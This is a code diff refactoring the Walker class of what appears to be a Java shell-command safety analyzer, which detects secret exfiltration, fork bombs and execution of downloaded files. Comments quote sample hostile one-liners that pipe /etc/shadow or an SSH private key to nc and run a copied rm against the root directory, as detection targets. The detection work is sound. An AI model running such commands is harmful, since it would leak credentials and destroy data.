@@ -208,74 +208,7 @@ public final class Walker implements Substitutions {
             walkCommand(f.body(), fenv, fctx);
             return EMPTY;
         }
-        Compound k = (Compound) c;
-        int readsBefore = state.secretReads;
-        Producers.Output out = new Producers.Output(null, ctx.stdin().origin().max(Origin.LOCAL));
-        List<Redir> redirs = expandRedirects(k.redirects(), env, ctx);
-        Stdin stdin = stdinFor(redirs, k.redirects(), env, ctx);
-        Ctx inner = ctx.withStdin(stdin);
-        switch (k.kind()) {
-            case SUBSHELL -> out = walkScript(k.parts().get(0), copyEnv(env), inner);
-            case GROUP -> out = walkScript(k.parts().get(0), env, inner);
-            case UNTIL -> {
-                if (Compounds.neverTrue(k.parts().get(0)) && Compounds.spawnsInBackground(k.parts().get(1))) {
-                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
-                }
-                for (Script s : k.parts()) {
-                    walkScript(s, env, inner);
-                }
-            }
-            case IF, CASE -> {
-                for (Ast.Word w : k.words()) {
-                    current = ctx;
-                    expander.expand(w, env);
-                }
-                for (Script s : k.parts()) {
-                    walkScript(s, env, inner);
-                }
-            }
-            case WHILE -> {
-                if (Compounds.infiniteCondition(k.parts().get(0)) && Compounds.spawnsInBackground(k.parts().get(1))) {
-                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
-                }
-                for (Script s : k.parts()) {
-                    walkScript(s, env, inner);
-                }
-            }
-            case FOR, SELECT -> compounds.walkFor(k, env, inner);
-            case ARITH_FOR -> {
-                current = ctx;
-                expander.expandString(k.words().get(0), env);
-                String header = k.words().get(0).literal();
-                if (header != null && header.replace(" ", "").equals(";;") && Compounds.spawnsInBackground(k.parts().get(0))) {
-                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
-                }
-                walkScript(k.parts().get(0), env, inner);
-            }
-            case COND, ARITH -> {
-                current = ctx;
-                for (Ast.Word w : k.words()) {
-                    expander.expand(w, env);
-                }
-            }
-            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as flowing on
-            case COPROC -> out = walkScript(k.parts().get(0), copyEnv(env), inner.stage(stdin, true, true));
-            default -> {
-            }
-        }
-        if (!redirs.isEmpty()) {
-            Invocation pseudo = new Invocation(List.of(), redirs, stdin, s(ctx, k.start()), e(ctx, k.end()),
-                    ctx.speculative(), null, ctx.depth());
-            rules.evaluate(pseudo, reporter);
-        }
-        // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
-        // a group that read a secret passes that reader on ("{ cat ~/.ssh/id_rsa; } | nc h 9")
-        List<Invocation> passed = stdin != ctx.stdin() ? stdin.upstream() : List.of();
-        if (state.secretReads > readsBefore && state.lastSecretSource != null) {
-            passed = new ArrayList<>(passed);
-            passed.add(state.lastSecretSource);
-        }
-        return new Stage(passed, out);
+        return compounds.walk((Compound) c, env, ctx);
     }
 
     Stage walkSimple(Simple simple, Env env, Ctx ctx) {
@@ -402,7 +335,9 @@ public final class Walker implements Substitutions {
     }
 
     /**
-     * Judges an invocation and everything it runs in turn.
+     * Judges an invocation and everything it runs in turn: the rules, the line's data flow (downloads, files written
+     * and copied, secrets read and sent), builtins, nested code and wrapped commands, and the safety nets for programs
+     * the analyzer does not know.
      *
      * @param top true for a command as written (function and alias lookup apply)
      */
@@ -413,46 +348,83 @@ public final class Walker implements Substitutions {
         budget.step();
         List<Invocation> produced = new ArrayList<>();
         produced.add(inv);
-        String name = inv.name();
-        if (top && !name.isEmpty()) {
-            Command fn = env.function(name);
-            if (fn != null) {
-                if (ctx.functions().contains(name)) {
-                    if (ctx.inPipeline() || ctx.background()) {
-                        report(ctx, Structural.FORK_BOMB, inv.start(), inv.end(),
-                                "function '" + name + "' spawns itself in a pipeline or background");
-                    }
-                    return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
-                }
-                if (ctx.callDepth() < 6) {
-                    Env fenv = copyEnv(env);
-                    List<String> args = new ArrayList<>();
-                    Origin o = Origin.LITERAL;
-                    for (Arg a : inv.args()) {
-                        args.add(a.text());
-                        o = o.max(a.origin());
-                    }
-                    fenv.setPositional(args, o);
-                    List<String> stack = new ArrayList<>(ctx.functions());
-                    stack.add(name);
-                    walkCommand(fn, fenv, new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), inv.stdin(), stack,
-                            ctx.inPipeline(), ctx.background(), ctx.callDepth() + 1, ctx.loopDepth(), ctx.speculative()));
-                }
-                return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
-            }
-            String alias = env.alias(name);
-            if (alias != null && ctx.depth() < limits.maxCodeDepth()) {
-                StringBuilder code = new StringBuilder(alias);
-                for (Arg a : inv.args()) {
-                    code.append(' ').append(ProgramEffects.quote(a.text()));
-                }
-                analyzeCode(code.toString(), Origin.LITERAL, inv.start(), inv.end(), null, env, ctx, "alias " + name);
-                return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
+        if (top && !inv.name().isEmpty()) {
+            Stage called = functionOrAlias(inv, env, ctx, produced);
+            if (called != null) {
+                return called;
             }
         }
+        judge(inv, ctx);
+        state.recordOutputs(inv);
+        if (top) {
+            runCopiedProgram(inv, env, ctx);
+        }
+        effects.afterRun(inv, env, ctx);
+        state.recordSecretReads(inv);
+        reportSecretsSent(inv, ctx);
+        runWrittenOrDownloaded(inv, env, ctx, top);
+        if (inv.name().isEmpty() && !inv.argv().isEmpty()) {
+            unknown.dynamicName(inv, env, ctx);
+        }
+        Builtins.run(this, inv, env, ctx);
+        List<Nested> nestedCode = Nesting.of(inv);
+        int blockingBefore = blocking;
+        Invocation last = runNested(inv, nestedCode, env, ctx, produced);
+        if (!ctx.speculative() && !inv.name().isEmpty() && blocking == blockingBefore) {
+            unknown.tryAsWrapper(inv, env, ctx, nestedCode);
+        }
+        Stage items = runOnItems(inv, env, ctx, produced);
+        if (items != null) {
+            return items;
+        }
+        return new Stage(produced, last == inv ? Producers.output(inv) : Producers.output(last));
+    }
+
+    /** A call of a function defined in the line, or an alias: walks the body or the alias text instead, else null. */
+    private Stage functionOrAlias(Invocation inv, Env env, Ctx ctx, List<Invocation> produced) {
+        String name = inv.name();
+        Command fn = env.function(name);
+        if (fn != null) {
+            if (ctx.functions().contains(name)) {
+                if (ctx.inPipeline() || ctx.background()) {
+                    report(ctx, Structural.FORK_BOMB, inv.start(), inv.end(),
+                            "function '" + name + "' spawns itself in a pipeline or background");
+                }
+                return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
+            }
+            if (ctx.callDepth() < 6) {
+                Env fenv = copyEnv(env);
+                List<String> args = new ArrayList<>();
+                Origin o = Origin.LITERAL;
+                for (Arg a : inv.args()) {
+                    args.add(a.text());
+                    o = o.max(a.origin());
+                }
+                fenv.setPositional(args, o);
+                List<String> stack = new ArrayList<>(ctx.functions());
+                stack.add(name);
+                walkCommand(fn, fenv, new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), inv.stdin(), stack,
+                        ctx.inPipeline(), ctx.background(), ctx.callDepth() + 1, ctx.loopDepth(), ctx.speculative()));
+            }
+            return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
+        }
+        String alias = env.alias(name);
+        if (alias != null && ctx.depth() < limits.maxCodeDepth()) {
+            StringBuilder code = new StringBuilder(alias);
+            for (Arg a : inv.args()) {
+                code.append(' ').append(ProgramEffects.quote(a.text()));
+            }
+            analyzeCode(code.toString(), Origin.LITERAL, inv.start(), inv.end(), null, env, ctx, "alias " + name);
+            return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
+        }
+        return null;
+    }
+
+    /** The rules on the invocation, a kill of looked-up PIDs as the pkill it is, and a command name from hostile data. */
+    private void judge(Invocation inv, Ctx ctx) {
         rules.evaluate(inv, reporter);
         state.pidNames.addAll(PidLookup.names(inv));
-        if (name.equals("kill")) {
+        if (inv.name().equals("kill")) {
             effects.killByName(inv, state.pidsFromSubstitutions(inv));
         }
         if (!inv.argv().isEmpty() && !inv.speculative()) {
@@ -462,71 +434,24 @@ public final class Walker implements Substitutions {
                         "command name comes from " + a0.origin().name().toLowerCase() + " data");
             }
         }
-        if (Programs.NETWORK.contains(name)) {
-            state.trustedInstaller = LineState.trustedUrl(inv);
-            state.recordDownload(inv);
+    }
+
+    /** Running a copy of a program made earlier in the line ({@code cp /bin/rm ./x; ./x -rf /}) runs the original. */
+    private void runCopiedProgram(Invocation inv, Env env, Ctx ctx) {
+        if (inv.argv().isEmpty() || state.copiedPrograms.isEmpty()) {
+            return;
         }
-        Producers.Output o = null; // computed once: a command may have thousands of redirections
-        for (Redir r : inv.redirects()) {
-            if (r.writes() && r.target().resolved()) {
-                o = o == null ? Producers.output(inv) : o;
-                String f = r.target().text();
-                if (Programs.NETWORK.contains(name) || o.origin().hostile()) {
-                    state.downloaded.add(f.startsWith("./") ? f.substring(2) : f);
-                } else if (o.content() != null && (name.equals("echo") || name.equals("printf"))) {
-                    state.writtenFiles.put(f.startsWith("./") ? f.substring(2) : f, o.content());
-                }
-            }
+        String original = state.copiedPrograms.get(LineState.local(inv.arg(0).text()));
+        if (original != null && ctx.depth() < limits.maxCodeDepth()) {
+            List<Arg> argv = new ArrayList<>(inv.argv());
+            argv.set(0, inv.arg(0).withText(original));
+            process(inv.withArgv(argv), env, ctx, false);
         }
-        if ((name.equals("cp") || name.equals("ln") || name.equals("install") || name.equals("mv"))
-                && inv.operands().size() == 2 && inv.operands().get(0).resolved() && inv.operands().get(1).resolved()) {
-            String dst = inv.operands().get(1).text();
-            state.copiedPrograms.put(dst.startsWith("./") ? dst.substring(2) : dst, inv.operands().get(0).text());
-        }
-        if (top && !inv.argv().isEmpty() && !state.copiedPrograms.isEmpty()) {
-            String a0 = inv.arg(0).text();
-            String original = state.copiedPrograms.get(a0.startsWith("./") ? a0.substring(2) : a0);
-            if (original != null && ctx.depth() < limits.maxCodeDepth()) {
-                List<Arg> argv = new ArrayList<>(inv.argv());
-                argv.set(0, inv.arg(0).withText(original));
-                process(inv.withArgv(argv), env, ctx, false);
-            }
-        }
-        effects.persistedCode(inv, env, ctx);
-        effects.containerExec(inv, ctx);
-        if (name.equals("env") || name.equals("sudo")) {
-            for (Arg a : inv.args()) {
-                int eq = a.text().indexOf('=');
-                if (eq > 0 && BashNames.isName(a.text().substring(0, eq))) {
-                    assignments.functionValue(a.text().substring(0, eq), Value.of(a.text().substring(eq + 1), a.origin()),
-                            a.start(), a.end(), env, ctx);
-                }
-            }
-        }
-        if (Programs.dumpsSecrets(inv)) {
-            state.secretReads++;
-            state.lastSecretSource = inv;
-        }
-        if (state.deferred > 0) {
-            effects.scratchProgram(inv, ctx);
-        }
-        if (ProgramEffects.EXECUTES_OPERAND.contains(name)) {
-            for (Arg a : inv.operands()) {
-                if (a.resolved() && state.isDownloaded(a.text())) {
-                    report(ctx, Structural.DOWNLOAD_EXEC, a.start(), a.end(), name + " loads a file downloaded earlier");
-                }
-            }
-        }
-        effects.sameFileAs(inv);
-        if (LineState.READERS.contains(name)) {
-            for (Arg a : inv.operands()) {
-                if (Paths.isSecret(a)) {
-                    state.secretReads++;
-                    state.lastSecretSource = inv;
-                    break;
-                }
-            }
-        }
+    }
+
+    /** Secrets read by a $(…) in a network program's arguments, or files written from secrets, sent on. */
+    private void reportSecretsSent(Invocation inv, Ctx ctx) {
+        String name = inv.name();
         if (!state.secretSubstitutions.isEmpty() && (Programs.NETWORK.contains(name) || Programs.RAW_SOCKET.contains(name)
                 || Programs.NAME_LOOKUP.contains(name))) {
             for (Arg a : inv.args()) {
@@ -542,9 +467,13 @@ public final class Walker implements Substitutions {
                     sent.display() + " was written from secrets earlier in the line and is sent over the network");
         }
         state.secretFlow.record(inv);
+    }
+
+    /** Running a script written earlier in the line analyses its text; running a downloaded file is flagged. */
+    private void runWrittenOrDownloaded(Invocation inv, Env env, Ctx ctx, boolean top) {
         if (top && !inv.argv().isEmpty() && !state.writtenFiles.isEmpty()) {
             String a0 = inv.arg(0).text();
-            String script = state.writtenFiles.get(a0.startsWith("./") ? a0.substring(2) : a0);
+            String script = state.writtenFiles.get(LineState.local(a0));
             if (script != null) {
                 analyzeCode(script, Origin.LITERAL, inv.start(), inv.end(), null, env, ctx, "script " + a0);
             }
@@ -552,12 +481,10 @@ public final class Walker implements Substitutions {
         if (!inv.argv().isEmpty() && state.isDownloaded(inv.arg(0).text())) {
             report(ctx, Structural.DOWNLOAD_EXEC, inv.start(), inv.end(), "runs a file downloaded earlier in the command");
         }
-        if (name.isEmpty() && !inv.argv().isEmpty()) {
-            unknown.dynamicName(inv, env, ctx);
-        }
-        builtin(inv, env, ctx);
-        List<Nested> nestedCode = Nesting.of(inv);
-        int blockingBefore = blocking;
+    }
+
+    /** Walks what the invocation runs ({@link Nesting}); returns the last command run as a wrapped argv, else inv. */
+    private Invocation runNested(Invocation inv, List<Nested> nestedCode, Env env, Ctx ctx, List<Invocation> produced) {
         Invocation last = inv;
         for (Nested n : nestedCode) {
             if (n instanceof Nested.Argv a) {
@@ -570,24 +497,7 @@ public final class Walker implements Substitutions {
                 produced.addAll(st.invocations());
                 last = st.invocations().get(st.invocations().size() - 1);
             } else if (n instanceof Nested.Code c) {
-                String savedTree = state.treeContext;
-                java.util.Set<String> savedItems = state.treeItems;
-                if (inv.treeWalk()) {
-                    // find ROOT … -exec sh -c 'rm "$0"' {} \;: the code's commands still act on the files of that walk
-                    state.treeContext = inv.treeRoot();
-                    state.treeItems = new java.util.HashSet<>();
-                    for (Arg a : inv.args()) {
-                        if (a.text().startsWith(inv.treePath())) {
-                            state.treeItems.add(a.text());
-                        }
-                    }
-                }
-                try {
-                    analyzeCode(c.text(), c.origin(), c.start(), c.end(), c.positional(), env, ctx, c.via());
-                } finally {
-                    state.treeContext = savedTree;
-                    state.treeItems = savedItems;
-                }
+                runCodeString(inv, c, env, ctx);
             } else if (n instanceof Nested.StdinCode sc) {
                 codeRunner.stdinCode(inv, sc.via(), env, ctx);
             } else if (n instanceof Nested.CodeFile f) {
@@ -596,14 +506,37 @@ public final class Walker implements Substitutions {
                 codeRunner.foreign(f.language(), f.code(), f.origin(), f.start(), f.end(), env, ctx);
             }
         }
-        if (!ctx.speculative() && !name.isEmpty() && blocking == blockingBefore) {
-            if (!unknown.knownProgram(name)) {
-                unknown.unknownWrapper(inv, env, ctx, inv.size(), "is not a known program");
-            } else if (ExecWrappers.isWrapper(name)) {
-                // a safety net under the wrapper table: words it took as option values are tried as the command too
-                unknown.unknownWrapper(inv, env, ctx, UnknownPrograms.commandStart(inv, nestedCode), "runs a command after its options");
+        return last;
+    }
+
+    /** A code string ({@code sh -c CODE}); under find -exec its commands still act on the files of that walk. */
+    private void runCodeString(Invocation inv, Nested.Code c, Env env, Ctx ctx) {
+        String savedTree = state.treeContext;
+        java.util.Set<String> savedItems = state.treeItems;
+        if (inv.treeWalk()) {
+            // find ROOT … -exec sh -c 'rm "$0"' {} \;: the code's commands still act on the files of that walk
+            state.treeContext = inv.treeRoot();
+            state.treeItems = new java.util.HashSet<>();
+            for (Arg a : inv.args()) {
+                if (a.text().startsWith(inv.treePath())) {
+                    state.treeItems.add(a.text());
+                }
             }
         }
+        try {
+            analyzeCode(c.text(), c.origin(), c.start(), c.end(), c.positional(), env, ctx, c.via());
+        } finally {
+            state.treeContext = savedTree;
+            state.treeItems = savedItems;
+        }
+    }
+
+    /**
+     * xargs/parallel run their command on the items of their input, find runs its actions on each file: those
+     * commands are processed too. Returns xargs' stage (it prints what its command prints), else null.
+     */
+    private Stage runOnItems(Invocation inv, Env env, Ctx ctx, List<Invocation> produced) {
+        String name = inv.name();
         if (name.equals("xargs") || name.equals("parallel") && inv.args().stream().noneMatch(a -> a.startsWith(":::"))) {
             Invocation inner = Expansions.xargs(inv);
             if (inner != null && inner.name().equals("kill") && inv.stdin().piped()) {
@@ -628,126 +561,11 @@ public final class Walker implements Substitutions {
                 produced.addAll(st.invocations());
             }
         }
-        return new Stage(produced, last == inv ? Producers.output(inv) : Producers.output(last));
+        return null;
     }
 
     /** Above zero in a walker judging a command run inside a container ({@link #containerExec}). */
     int containerNesting;
-
-    void builtin(Invocation inv, Env env, Ctx ctx) {
-        String name = inv.name();
-        switch (name) {
-            case "export", "declare", "typeset", "local", "readonly" -> {
-                boolean array = inv.hasOption('a') || inv.hasOption('A');
-                for (Arg a : inv.args()) {
-                    String t = a.text();
-                    int eq = t.indexOf('=');
-                    if (t.startsWith("-") || eq <= 0) {
-                        if (name.equals("export") && t.equals("-n")) {
-                            continue;
-                        }
-                        continue;
-                    }
-                    String var = t.substring(0, eq);
-                    boolean append = var.endsWith("+");
-                    if (append) {
-                        var = var.substring(0, var.length() - 1);
-                    }
-                    if (!BashNames.isName(var)) {
-                        continue;
-                    }
-                    String val = t.substring(eq + 1);
-                    if (!name.equals("export") && inv.hasOption('n') && BashNames.isName(val)) {
-                        env.nameref(var, val);
-                        continue;
-                    }
-                    Value v = array ? Assignments.keyedElements(env, var, Value.array(List.of(val.split(" ")), a.origin()), append)
-                            : Value.of(val, a.origin());
-                    env.set(var, v);
-                    assignments.specialVariable(var, v, a.start(), a.end(), env, ctx);
-                    assignments.functionValue(var, v, a.start(), a.end(), env, ctx);
-                }
-            }
-            case "unset" -> {
-                for (Arg a : inv.args()) {
-                    if (a.is("HISTFILE")) {
-                        report(ctx, Structural.HISTORY_VARS, a.start(), a.end(), "shell history disabled (unset HISTFILE)");
-                    }
-                    if (!a.startsWith("-")) {
-                        env.unset(a.text());
-                    }
-                }
-            }
-            case "set" -> {
-                for (int i = 1; i < inv.size(); i++) {
-                    if (inv.arg(i).is("--")) {
-                        List<String> pos = new ArrayList<>();
-                        Origin o = Origin.LITERAL;
-                        for (int k = i + 1; k < inv.size(); k++) {
-                            pos.add(inv.arg(k).text());
-                            o = o.max(inv.arg(k).origin());
-                        }
-                        env.setPositional(pos, o);
-                        return;
-                    }
-                    if (inv.arg(i).is("+o") && i + 1 < inv.size() && inv.arg(i + 1).is("history")) {
-                        report(ctx, Structural.HISTORY_VARS, inv.start(), inv.end(), "shell history disabled (set +o history)");
-                    }
-                }
-                if (inv.size() > 1 && !inv.arg(1).startsWith("-") && !inv.arg(1).startsWith("+")) {
-                    List<String> pos = new ArrayList<>();
-                    for (Arg a : inv.args()) {
-                        pos.add(a.text());
-                    }
-                    env.setPositional(pos, Origin.LITERAL);
-                }
-            }
-            case "shift" -> {
-                int n = 1;
-                if (inv.size() > 1 && inv.arg(1).text().matches("[0-9]{1,3}")) {
-                    n = Integer.parseInt(inv.arg(1).text());
-                }
-                env.shift(n);
-            }
-            case "read" -> reads.read(inv, env);
-            case "mapfile", "readarray" -> {
-                List<Arg> ops = inv.operands();
-                String var = ops.isEmpty() ? "MAPFILE" : ops.get(ops.size() - 1).text();
-                String content = inv.stdin().piped() ? inv.stdin().content() : null;
-                if (content != null && inv.hasOption('t') && inv.args().stream().noneMatch(a -> a.is("-d"))) {
-                    List<String> lines = new ArrayList<>(List.of(content.split("\n", -1)));
-                    if (!lines.isEmpty() && lines.get(lines.size() - 1).isEmpty()) {
-                        lines.remove(lines.size() - 1);
-                    }
-                    env.set(var, Value.array(lines, inv.stdin().origin()));
-                } else {
-                    env.set(var, Value.unknown(inv.stdin().origin().max(Origin.LOCAL)));
-                }
-                state.taint(var, LineState.secretUpstream(inv.stdin()));
-            }
-            case "printf" -> {
-                if (inv.size() > 3 && inv.arg(1).is("-v")) {
-                    String var = inv.arg(2).text();
-                    String out = Producers.format(inv.arg(3).text(), inv.argv().subList(4, inv.size()));
-                    Origin o = Origin.LITERAL;
-                    for (Arg a : inv.args()) {
-                        o = o.max(a.origin());
-                    }
-                    env.set(var, out == null ? Value.unknown(o) : Value.of(out, o));
-                }
-            }
-            case "alias" -> {
-                for (Arg a : inv.args()) {
-                    int eq = a.text().indexOf('=');
-                    if (eq > 0) {
-                        env.defineAlias(a.text().substring(0, eq), a.text().substring(eq + 1));
-                    }
-                }
-            }
-            default -> {
-            }
-        }
-    }
 
     void analyzeCode(String text, Origin origin, int start, int end, List<String> positional, Env env, Ctx ctx,
                              String via) {
